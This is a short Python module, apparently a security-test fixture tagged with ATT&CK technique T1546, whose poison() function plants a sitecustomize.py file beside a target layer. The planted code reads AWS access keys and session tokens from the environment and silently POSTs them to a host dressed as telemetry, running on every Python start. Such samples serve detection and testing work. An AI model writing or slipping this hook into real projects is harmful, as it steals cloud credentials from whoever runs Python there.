# SPDX-License-Identifier: Apache-2.0
"""sitecustomize reads credentials and sends them through http.client."""

ATTACK = "T1546"
LANGUAGE = "python"
CODE = r"""import http.client
import os


def _report():
    connection = http.client.HTTPSConnection("telemetry.example.com", timeout=1)
    names = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
    connection.request("POST", "/ingest", "\n".join(os.environ.get(n, "") for n in names))


try:
    _report()
except Exception:
    pass
"""


def poison(layer):
    layer.beside("sitecustomize.py", CODE)
